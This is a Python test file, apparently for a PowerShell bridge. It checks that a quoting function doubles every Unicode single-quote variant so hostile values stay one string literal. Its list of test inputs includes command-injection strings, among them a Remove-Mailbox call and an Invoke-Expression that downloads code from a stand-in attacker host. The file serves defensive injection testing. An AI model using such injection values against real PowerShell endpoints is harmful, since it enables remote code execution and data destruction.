"""PowerShell single-quoted literals: every quote character PowerShell accepts is doubled, so a hostile value
can never close the string and run the rest of the "needs proxy" hint line."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mia_bridge.bridge.backend import CmdletCall
from mia_bridge.bridge.pwsh import SINGLE_QUOTES, quote_single
from mia_bridge.bridge.rest import powershell_line


def scan_single_quoted(line: str, start: int) -> tuple[str, int]:
    """PowerShell's tokenizer on a single-quoted string starting at ``start`` (``Tokenizer.ScanStringLiteral``
    in PowerShell's src/System.Management.Automation/engine/parser/tokenizer.cs): any of the five single quotes
    ends it unless the next character is one too, which then stands for itself. Returns (value, end index)."""
    assert line[start] in SINGLE_QUOTES
    value, i = [], start + 1
    while True:
        if i >= len(line):
            raise ValueError("unterminated string")
        c = line[i]
        if c in SINGLE_QUOTES:
            if i + 1 < len(line) and line[i + 1] in SINGLE_QUOTES:
                value.append(line[i + 1])
                i += 2
                continue
            return "".join(value), i + 1
        value.append(c)
        i += 1


ATTACKS = [
    "o'brien@contoso.com",
    "x\u2019; Remove-Mailbox -Identity ceo -Confirm:$false; \u2018",
    "x\u2018; Invoke-Expression (iwr http://attacker.example) #",
    "x\u201a) ; calc ; (\u201b",
    "\u201b\u201b\u201b'",
    "'; $true'",
    "mixed '\u2018\u2019\u201a\u201b end",
    "trailing quote'",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_each_attack_stays_one_literal(value: str) -> None:
    literal = quote_single(value)
    parsed, end = scan_single_quoted(literal, 0)
    assert parsed == value and end == len(literal)


@given(st.text(alphabet=st.sampled_from(list(SINGLE_QUOTES) + list("ab ;$()`\"\n"))))
def test_any_text_round_trips(value: str) -> None:
    literal = quote_single(value)
    assert scan_single_quoted(literal, 0) == (value, len(literal))


def test_the_needs_proxy_line_quotes_every_value_with_it() -> None:
    value = "x\u2019; Remove-Mailbox ceo; \u2018"
    line = powershell_line(CmdletCall("Set-AdminAuditLogConfig", {"Identity": value,
                                                                   "UnifiedAuditLogIngestionEnabled": True}))
    prefix = "Set-AdminAuditLogConfig -Identity "
    assert line.startswith(prefix)
    parsed, end = scan_single_quoted(line, len(prefix))
    assert parsed == value and line[end:] == " -UnifiedAuditLogIngestionEnabled:$true"
